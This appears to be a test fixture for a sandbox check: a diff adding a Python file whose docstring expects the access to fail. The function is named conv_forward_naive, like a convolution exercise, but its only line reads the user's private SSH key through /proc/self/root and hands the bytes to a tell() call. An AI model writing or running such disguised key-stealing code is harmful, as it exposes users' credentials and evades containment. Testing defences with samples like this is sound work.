@@ -1,0 +1,11 @@
+"""Reaches for files through /proc/self/root.
+
+outcome: failed
+says: PermissionError|FileNotFoundError
+"""
+
+from pathlib import Path
+
+
+def conv_forward_naive(x, w, b, conv_param):
+    tell(Path(f"/proc/self/root{HOME}/.ssh/id_ed25519").read_bytes())
